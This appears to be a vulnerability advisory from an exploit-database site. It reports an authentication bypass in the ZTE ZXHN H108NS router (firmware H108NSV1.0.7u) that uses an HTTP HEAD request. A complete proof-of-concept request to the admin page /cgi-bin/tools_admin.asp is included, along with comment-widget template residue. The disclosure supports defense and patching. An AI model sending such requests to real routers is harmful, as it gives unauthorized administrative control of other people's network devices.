ZTE ZXHN-H108NS AuthenticationBypass

Risk: Medium
Local: No
Remote: Yes

# Exploit Title: Router ZTE-H108NS - Authentication Bypass # Date: 19-11-2022 # Exploit Author: George Tsimpidas # Vendor: https://www.zte.com.cn/global/ # Firmware: H108NSV1.0.7u_ZRD_GR2_A68 # CVE: N/A # Tested on: Debian 5.18.5 Description : When specific http methods are listed within a security constraint, then only those methods are protected. Router ZTE-H108NS defines the following http methods: GET, POST, and HEAD. HEAD method seems to fall under a flawed operation which allows the HEAD to be implemented correctly with every Response Status Code. Proof Of Concept : Below request bypasses successfully the Basic Authentication, and grants access to the Administration Panel of the Router. HEAD /cgi-bin/tools_admin.asp HTTP/1.1 Host: User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:91.0) Gecko/20100101 Firefox/91.0 Accept: text/html,application/xhtml+xml,application/xml;q=0.9,image/webp,*/*;q=0.8 Accept-Language: en-US,en;q=0.5 Accept-Encoding: gzip, deflate DNT: 1 Connection: close Cookie: SESSIONID=1cd6bb77 Upgrade-Insecure-Requests: 1 Cache-Control:max-age=0

Vote for this issue:


Thanks for you vote!


Thanks for you comment!
Your message is in quarantine 48 hours.

Comment it here.

(*) - required fields.
{{ x.nick }} | Date: {{ x.ux * 1000 | date:'yyyy-MM-dd' }} {{ x.ux * 1000 | date:'HH:mm' }} CET+1
{{ x.comment }}Copyright 2022, cxsecurity.com


Back to Top